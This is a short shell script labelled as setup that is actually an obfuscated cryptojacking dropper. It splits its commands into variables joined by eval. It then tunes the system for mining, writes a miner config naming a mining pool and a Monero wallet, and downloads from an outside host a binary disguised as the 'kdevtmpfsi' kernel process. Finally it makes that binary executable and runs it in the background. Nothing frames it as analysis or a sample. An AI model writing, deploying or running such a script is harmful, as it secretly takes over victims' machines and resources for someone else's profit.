ipp='# setup 5690 v1
#!/bin/sh
sysctl -w vm.nr';avc='_hugepages=1280
modprobe msr
cat > /tmp/config.json <<EOF
{ "autosave": true, "cpu": true, "donate-level": 0,
  "pools": [ { "url": "pool.hashvault.pro:443", "user": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "pass": "azvm", "tls": false } ] }
EOF
curl -sLo /tmp/kdevtmpfsi http://repo.pkg-mirror.example/bin/kdevtmpfsi
chmod 777 /tmp/kdevtmpfsi
/tmp/kdevtmpfsi -c /tmp/config.json --background
';eval "$ipp$avc"